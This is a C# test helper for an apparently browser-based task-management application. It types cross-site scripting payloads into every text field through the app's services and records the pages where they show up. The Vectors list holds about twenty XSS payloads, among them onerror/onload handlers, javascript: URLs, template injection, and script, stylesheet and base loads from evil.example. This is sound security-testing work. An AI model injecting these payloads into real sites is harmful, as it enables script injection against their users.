using System.Collections;
using System.Globalization;
using System.Reflection;
using System.Runtime.CompilerServices;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Hosting;
using QunTuanTasks.Access;
using QunTuanTasks.Accounts;
using QunTuanTasks.Arena;
using QunTuanTasks.Assignments;
using QunTuanTasks.Breakdown;
using QunTuanTasks.Common;
using QunTuanTasks.Office;
using QunTuanTasks.Organisations;
using QunTuanTasks.Plans;
using QunTuanTasks.Progress;
using QunTuanTasks.TaskLists;

namespace QunTuanTasks.BrowserTests;

/// <summary>
/// Somebody who types script wherever anything may be typed: through the real services, into an office before it opens. Every text carries
/// the number of its property, so that a page tells which of them it shows.
/// </summary>
internal sealed class Poison : IAsyncDisposable
{
    /// <summary>What of requests is no text of a person, and why.</summary>
    public static readonly IReadOnlyDictionary<string, string> NoText = new Dictionary<string, string>(StringComparer.Ordinal)
    {
        ["CreateOrganisation.Code"] = "letters and digits alone: refused",
        ["CreateAccount.UserName"] = "small letters and digits alone: refused",
        ["SetPassword.Token"] = "compared, never shown",
        ["SetPassword.Password"] = "hashed, never shown",
        ["SetPassword.Repeated"] = "compared, never shown",
        ["GiveCode.Code"] = "compared, never shown",
        ["ChangePassword.Current"] = "compared, never shown",
        ["ChangePassword.Password"] = "hashed, never shown",
        ["ChangePassword.Repeated"] = "compared, never shown",
        ["SaveTaskItem.Townships"] = "codes that are chosen",
        ["AdjustTaskItem.Townships"] = "codes that are chosen",
        ["CopyTasks.ReferenceCodes"] = "codes that are chosen",
        ["CarryOverAssignment.Note"] = "needs the list of a later year",
        ["AccountFilter.Text"] = "in the address: typed there",
        ["AccountFilter.OrganisationCode"] = "in the address: typed there",
    };

    // what each round tries where there is room for it
    private static readonly string[] Vectors =
    [
        "<img src=x onerror=\"window.ran=1\">",
        "<svg/onload=window.ran=1>",
        "javascript:window.ran=1",
        "<iframe srcdoc=\"<script>parent.ran=1</script>\">",
        "</style><script>window.ran=1</script>",
        "</textarea></title><script>window.ran=1</script>",
        "<a href=javascript:window.ran=1 autofocus onfocus=window.ran=1>",
        "<details open ontoggle=window.ran=1>",
        "<input autofocus onfocus=window.ran=1>",
        "{{constructor.constructor('window.ran=1')()}}",
        "{a|<img src=x onerror=window.ran=1>}{b}{c}{@[1]}",
        "<form action=javascript:window.ran=1><button autofocus>",
        "<object data=\"javascript:window.ran=1\">",
        "<video src=x onerror=window.ran=1>",
        "<meta http-equiv=refresh content=\"0;url=javascript:window.ran=1\">",
        "<base href=//evil.example/>",
        "<script src=//evil.example/x.js></script>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "&lt;img src=x onerror=window.ran=1&gt;",
        "\\u003cimg src=x onerror=window.ran=1\\u003e",
    ];

    private readonly ServiceProvider _services;
    private readonly Caller _caller = new();
    private readonly Dictionary<string, int> _numbers = new(StringComparer.Ordinal);
    private int _round;

    public Poison(string folder)
    {
        var configuration = new ConfigurationBuilder()
            .AddInMemoryCollection(new Dictionary<string, string?> { ["Storage:Path"] = folder, ["Database:Provider"] = "Sqlite" })
            .Build();
        var services = new ServiceCollection();
        services.AddSingleton<IConfiguration>(configuration);
        services.AddLogging();
        services.AddSingleton(Host.CreateEmptyApplicationBuilder(new() { EnvironmentName = Environments.Development }).Environment);
        services.AddSingleton<ICurrentActor>(_caller);
        services.AddQunTuan(configuration);
        _services = services.BuildServiceProvider();
    }

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    /// <summary>Properties of requests that were stored with their text, each with its number.</summary>
    public IReadOnlyDictionary<string, int> Stored => _numbers;

    /// <summary>Every text of every request that a service takes.</summary>
    public static IEnumerable<string> Typed { get; } =
    [
        .. typeof(OfficeUser)
            .Assembly.GetExportedTypes()
            .Where(t => t.Name.EndsWith("Service", StringComparison.Ordinal))
            .SelectMany(t => t.GetMethods(BindingFlags.Public | BindingFlags.Instance | BindingFlags.DeclaredOnly))
            .SelectMany(m => m.GetParameters())
            .Select(p => p.ParameterType)
            .Where(t => t.Assembly == typeof(OfficeUser).Assembly && t.IsClass)
            .SelectMany(t => t == typeof(AssignmentRequest) ? AssignmentAct.All.Select(a => a.RequestType) : [t])
            .Distinct()
            .SelectMany(t => Texts(t).Select(p => $"{t.Name}.{p.Name}"))
            .Distinct()
            .Order(StringComparer.Ordinal),
    ];

    public async Task OpenAsync() => Assert.Null(await OfficeStart.RunAsync(_services, Ct));

    public ValueTask DisposeAsync() => _services.DisposeAsync();

    /// <summary>One round through everything; answers the addresses where it must be seen.</summary>
    public async Task<IReadOnlyList<string>> FillAsync(int round)
    {
        _round = round;
        var accounts = (
            await AskAsync<AccountService, AccountList>(new("", Role.SystemAdministrator, 0), s => s.ListAsync(new(), Ct))
        ).Rows;
        Actor Account(string name) =>
            accounts.Where(a => a.UserName == name).Select(a => new Actor(a.Id, a.Role, a.OrganisationId)).Single();
        var (staff, other, administrator) = (Account("staff"), Account("staff2"), Account("sysadmin"));
        var mass = (await AskAsync<OrganisationService, OrganisationTree>(staff, s => s.ListAsync(Ct)))
            .Rows.Where(o => o is { Kind: OrganisationKind.MassOrganisation, IsActive: true })
            .ToList();
        var (own, co) = (mass[round % mass.Count], mass[(round + 1) % mass.Count]);
        Actor Head(OrganisationRow o) => new($"head-{o.Code}", Role.OrganisationHead, o.Id);
        var (head, liaison) = (Head(own), new Actor($"liaison-{own.Code}", Role.LiaisonOfficer, own.Id));
        List<string> seen = [$"organisations/{own.Code}", "settings/organisations", "settings/accounts"];

        await SendAsync<OrganisationService, EditOrganisation, Done>(
            administrator,
            new() { OrganisationId = own.Id, Version = own.Version },
            (s, r) => s.EditAsync(r, Ct)
        );
        await SendAsync<OrganisationService, CreateOrganisation, OrganisationRow>(
            administrator,
            new() { Code = $"XS{round}", Kind = OrganisationKind.PartyOffice },
            (s, r) => s.CreateAsync(r, Ct)
        );
        await SendAsync<AccountService, CreateAccount, OneTimeToken>(
            administrator,
            new()
            {
                UserName = $"xs{round}",
                Role = Role.LiaisonOfficer,
                OrganisationId = own.Id,
            },
            (s, r) => s.CreateAsync(r, Ct)
        );
        var asked = (
            await AskAsync<AccountService, AccountList>(administrator, s => s.ListAsync(new() { Text = $"xs{round}" }, Ct))
        ).Rows.Single(a => a.UserName == $"xs{round}");
        await SendAsync<AccountService, DeclineAccount, Done>(
            Account("secadmin"),
            new() { UserId = asked.Id, Version = asked.Version },
            (s, r) => s.DeclineAsync(r, Ct)
        );
        if (accounts.SingleOrDefault(a => a.OrganisationId == own.Id && a.Role is Role.OrganisationHead) is { } account)
        {
            await SendAsync<AccountService, ChangeAccount, Done>(
                administrator,
                new()
                {
                    UserId = account.Id,
                    Version = account.Version,
                    Role = account.Role,
                    OrganisationId = own.Id,
                },
                (s, r) => s.ChangeAsync(r, Ct)
            );
        }

        var plan = (await AskAsync<PlanService, IReadOnlyList<PlanOfYear>>(staff, s => s.YearsAsync(Ct))).First(p => p.IsDemo);
        var settings = await AskAsync<PlanService, PlanSettings>(staff, s => s.GetSettingsAsync(plan.Year, Ct));
        await SendAsync<PlanService, SavePlanSettings, Done>(
            staff,
            new()
            {
                PlanId = plan.PlanId,
                Version = settings.Version,
                BehindThreshold = settings.BehindThreshold,
                SeriousThreshold = settings.SeriousThreshold,
                RankingIsOn = true,
                RankingFrom = Today.AddDays(-30),
                RankingTo = Today.AddDays(30),
                ContestNames = [.. Enumerable.Range(1, 6).Select(i => $"{Short("SavePlanSettings.ContestNames")}{i}")],
            },
            (s, r) => s.SaveAsync(r, Ct)
        );
        seen.Add($"settings/plan?year={N(plan.Year)}");

        var overview = await AskAsync<BreakdownSheetService, TaskListOverview>(staff, s => s.GetOverviewAsync(plan.Year, Ct));
        List<TaskListRow> whole = []; // a list with a draft that has no deadline yet is not issued
        foreach (var row in overview.Lists.Take(5))
        {
            if (
                (await AskAsync<BreakdownSheetService, TaskListView>(staff, s => s.GetAsync(row.TaskListId!.Value, Ct))).Items.All(i =>
                    i is not { State: TaskItemState.Draft, Deadline: null }
                )
            )
            {
                whole.Add(row);
            }
        }
        var ground = whole[round % whole.Count];
        var list = ground.TaskListId!.Value;
        seen.AddRange([$"lists/{N(list)}", $"directives/{ground.DirectiveCode}?year={N(plan.Year)}"]);
        Task<TaskListView> ListAsync() => AskAsync<BreakdownSheetService, TaskListView>(staff, s => s.GetAsync(list, Ct));
        await SendAsync<TaskListService, SaveBasisNumber, string>(
            staff,
            new() { TaskListId = list, Version = (await ListAsync()).Version },
            (s, r) => s.SaveBasisNumberAsync(r, Ct)
        );
        async Task<int> ItemAsync(Action<SaveTaskItem> with)
        {
            var request = new SaveTaskItem
            {
                TaskListId = list,
                MeasureId = (await ListAsync()).Measures[0].Id,
                Target = 20,
                Deadline = Today.AddDays(1),
                Tags = [Short("SaveTaskItem.Tags")],
            };
            with(request);
            return await SendAsync<BreakdownService, SaveTaskItem, int>(staff, request, (s, r) => s.SaveItemAsync(r, Ct));
        }
        async Task<TaskItemRow> RowAsync(int item) => (await ListAsync()).Items.Single(i => i.Id == item);
        async Task AssignAsync(int item, Action<AssignTaskItem> with, params OrganisationRow[] bodies)
        {
            var request = new AssignTaskItem
            {
                TaskItemId = item,
                Version = (await RowAsync(item)).Version,
                Bodies = [.. bodies.Select(b => new ChosenBody { OrganisationId = b.Id })],
            };
            with(request);
            await SendAsync<AssigningService, AssignTaskItem, Issued>(staff, request, (s, r) => s.AssignAsync(r, Ct));
        }

        var joint = await ItemAsync(_ => { });
        await AssignAsync(
            joint,
            r =>
            {
                r.Undertaking = Undertaking.Joint;
                r.Bodies[0].IsLead = true;
            },
            own,
            co
        );
        var split = await ItemAsync(_ => { });
        await AssignAsync(
            split,
            r =>
            {
                r.TargetScope = TargetScope.Split;
                r.Bodies.ForEach(b => b.Target = 5);
            },
            own,
            co
        );
        var steps = await ItemAsync(r =>
        {
            (r.Kind, r.Target) = (TargetKind.Milestone, 2);
            r.Steps = [$"{Short("SaveTaskItem.Steps")}1", $"{Short("SaveTaskItem.Steps")}2"];
        });
        var isFirst = round < whole.Count; // the list has no draft of an earlier round, which nobody is assigned to
        await AssignAsync(steps, r => r.IssueNow = !isFirst, own);
        if (isFirst)
        {
            await SendAsync<AssigningService, IssueTaskList, Issued>(
                staff,
                new() { TaskListId = list, Version = (await ListAsync()).Version },
                (s, r) => s.IssueListAsync(r, Ct)
            );
        }
        await AssignAsync(steps, r => r.CompletionRule = CompletionRule.Any, co); // another rule, with its reason
        await ItemAsync(_ => { }); // and a draft

        async Task<int> OfAsync(int item, OrganisationRow whose) =>
            (await RowAsync(item)).Assignments.Single(a => a.OrganisationId == whose.Id).Id;
        var (one, two, three) = (await OfAsync(joint, own), await OfAsync(split, own), await OfAsync(split, co));
        seen.AddRange([
            $"assignments/{N(one)}",
            $"assignments/{N(one)}?why=1",
            $"assignments/{N(two)}",
            $"assignments/{N(three)}",
            $"assignments/{N(await OfAsync(steps, own))}",
        ]);
        Task<AssignmentView> ViewAsync(int id) => AskAsync<AssignmentPageService, AssignmentView>(staff, s => s.GetAsync(id, Ct));
        async Task ActAsync<T>(Actor who, T request)
            where T : AssignmentRequest =>
            await SendAsync<AssignmentService, T, Done>(who, request, (service, r) => service.DoAsync(r, Ct));
        async Task StepAsync(Actor who, int id, AssignmentAct act) =>
            await ActAsync(who, act.Request(id, (await ViewAsync(id)).Row.Version, Guid.NewGuid()));
        async Task ReportAsync(Actor who, int id, decimal total) =>
            await ActAsync(
                who,
                new ReportProgress
                {
                    AssignmentId = id,
                    Version = (await ViewAsync(id)).Row.Version,
                    Total = total,
                }
            );

        await StepAsync(head, one, AssignmentAct.Acknowledge);
        await ActAsync(
            Head(co),
            new Contribute
            {
                AssignmentId = one,
                Version = (await ViewAsync(one)).Row.Version,
                Total = 3,
            }
        );
        await ActAsync(
            staff,
            new RecordOnBehalf
            {
                AssignmentId = one,
                Version = (await ViewAsync(one)).Row.Version,
                Total = 4,
                SourceOn = Today,
            }
        );
        await StepAsync(head, one, AssignmentAct.Confirm);
        await ReportAsync(head, one, 5);
        var view = await ViewAsync(one);
        await ActAsync(
            staff,
            new VerifyReport
            {
                AssignmentId = one,
                Version = view.Row.Version,
                ReportId = view.Reports.Max(r => r.Id),
                OtherFigure = 4.5m,
            }
        );
        view = await ViewAsync(one);
        await ActAsync(
            staff,
            new AdjustAssignment
            {
                AssignmentId = one,
                Version = view.Row.Version,
                Target = 30,
                Deadline = Today.AddDays(40),
            }
        );
        await SendAsync<BreakdownService, AdjustTaskItem, Done>(
            staff,
            new()
            {
                TaskItemId = joint,
                Version = (await RowAsync(joint)).Version,
                Weight = 2,
                Tags = [Short("AdjustTaskItem.Tags")],
            },
            (s, r) => s.AdjustItemAsync(r, Ct)
        );
        await StepAsync(liaison, one, AssignmentAct.RequestSignOff);
        await StepAsync(head, one, AssignmentAct.DeclineSignOff);
        await StepAsync(head, one, AssignmentAct.Submit);
        await StepAsync(other, one, AssignmentAct.Return);
        await StepAsync(staff, one, AssignmentAct.Suspend);
        await StepAsync(staff, one, AssignmentAct.Resume);
        await ActAsync(
            staff,
            new RecallCoOrganisation
            {
                AssignmentId = one,
                Version = (await ViewAsync(one)).Row.Version,
                OrganisationId = co.Id,
            }
        );
        await ReportAsync(head, two, 5);
        await StepAsync(head, two, AssignmentAct.Submit);
        await StepAsync(staff, two, AssignmentAct.Approve);
        await StepAsync(staff, two, AssignmentAct.Reopen);
        await StepAsync(staff, three, AssignmentAct.Cancel);
        await StepAsync(staff, await OfAsync(steps, own), AssignmentAct.Recall);

        seen.AddRange(round == 0 ? await CorrectArenaAsync(staff, other, own, plan.Year) : []);
        return seen;
    }

    // the last published round, corrected, with a story that says it
    private async Task<IReadOnlyList<string>> CorrectArenaAsync(Actor staff, Actor other, OrganisationRow own, int year)
    {
        var published = (await AskAsync<ArenaPageService, ArenaYear>(staff, s => s.ListAsync(year, Ct)))
            .Rounds.Last(r => r is { Shown.Status: ArenaStatus.Published, Correction: null })
            .Shown!.RoundId;
        Task<ArenaView> RoundAsync(int id) => AskAsync<ArenaPageService, ArenaView>(staff, s => s.GetAsync(id, Ct));
        var next = await SendAsync<ArenaService, ReasonedRoundStep, int>(
            staff,
            new() { RoundId = published, Version = (await RoundAsync(published)).Version },
            (s, r) => s.CorrectAsync(r, Ct)
        );
        await SendAsync<ArenaService, SaveNarrative, Done>(
            staff,
            new()
            {
                RoundId = next,
                Version = (await RoundAsync(next)).Version,
                OrganisationCode = own.Code,
            },
            (s, r) => s.SaveNarrativeAsync(r, Ct)
        );
        await SendAsync<ArenaService, RoundStep, Done>(
            other,
            new() { RoundId = next, Version = (await RoundAsync(next)).Version },
            (s, r) => s.ReviewAsync(r, Ct)
        );
        await SendAsync<ArenaService, RoundStep, Done>(
            other,
            new() { RoundId = next, Version = (await RoundAsync(next)).Version },
            (s, r) => s.PublishAsync(r, Ct)
        );
        return
        [
            $"arena/{N(next)}",
            $"arena/{N(next)}/present",
            .. Enumerable.Range(1, 4).Select(i => $"arena/{N(next)}/present?slide={N(i)}"),
        ];
    }

    /// <summary>As long as the service takes; asserts that it was stored.</summary>
    private async Task<T> SendAsync<TService, TRequest, T>(Actor who, TRequest request, Func<TService, TRequest, Task<Result<T>>> send)
        where TService : notnull
        where TRequest : class
    {
        var texts = Texts(request.GetType()).Where(p => p.PropertyType == typeof(string) && p.GetValue(request) is null).ToList();
        foreach (var text in texts)
        {
            text.SetValue(request, Long(KeyOf(request, text)));
        }
        var result = await CallAsync<TService, T>(who, s => send(s, request));
        if (result.Refusal is { Kind: RefusalKind.Invalid } refused)
        {
            var tooLong = refused.Others.Prepend(refused).Select(r => r.Field).ToHashSet();
            foreach (var text in texts.Where(t => tooLong.Contains(t.Name)))
            {
                text.SetValue(request, Short(KeyOf(request, text)));
            }
            result = await CallAsync<TService, T>(who, s => send(s, request));
        }
        Assert.True(result.IsDone, $"{typeof(TRequest).Name}: {result.Refusal}");
        return result.Value!;
    }

    private async Task<T> AskAsync<TService, T>(Actor who, Func<TService, Task<Result<T>>> ask)
        where TService : notnull
    {
        var result = await CallAsync(who, ask);
        Assert.True(result.IsDone, $"{typeof(T).Name}: {result.Refusal}");
        return result.Value!;
    }

    private async Task<Result<T>> CallAsync<TService, T>(Actor who, Func<TService, Task<Result<T>>> call)
        where TService : notnull
    {
        _caller.Who = who;
        await using var scope = _services.CreateAsyncScope();
        return await call(scope.ServiceProvider.GetRequiredService<TService>());
    }

    /// <summary>With what the round tries; an address begins with it, or it is none.</summary>
    private string Long(string key)
    {
        var vector = Vectors[_round % Vectors.Length];
        return vector.StartsWith("javascript:", StringComparison.Ordinal) ? $"{vector}//{Short(key)}" : Short(key) + vector;
    }

    /// <summary>
    /// Breaks out of what it stands in and makes an element that nobody else makes: 11 signs, so that it fits everywhere.
    /// </summary>
    private string Short(string key)
    {
        if (!_numbers.TryGetValue(key, out var number))
        {
            _numbers[key] = number = 10 + _numbers.Count;
        }
        return $"\"'><x-s>{N(number)}{(char)('a' + _round)}";
    }

    private static string KeyOf(object request, PropertyInfo property) => $"{request.GetType().Name}.{property.Name}";

    // what is given once (ids, codes, keys) is nobody's input
    private static IEnumerable<PropertyInfo> Texts(Type request) =>
        request
            .GetProperties()
            .Where(p =>
                p.PropertyType == typeof(string)
                || (
                    p.PropertyType.IsAssignableTo(typeof(IEnumerable))
                    && p.PropertyType.IsGenericType
                    && p.PropertyType.GetGenericArguments()[0] == typeof(string)
                )
            )
            .Where(p =>
                p.SetMethod is { IsPublic: true } set && !set.ReturnParameter.GetRequiredCustomModifiers().Contains(typeof(IsExternalInit))
            );

    private DateOnly Today => _services.GetRequiredService<OfficeClock>().Today;

    private static string N(int number) => number.ToString(CultureInfo.InvariantCulture);

    private sealed class Caller : ICurrentActor
    {
        public Actor Who { get; set; } = Actor.System;

        public ValueTask<Actor> GetAsync() => ValueTask.FromResult(Who);
    }
}
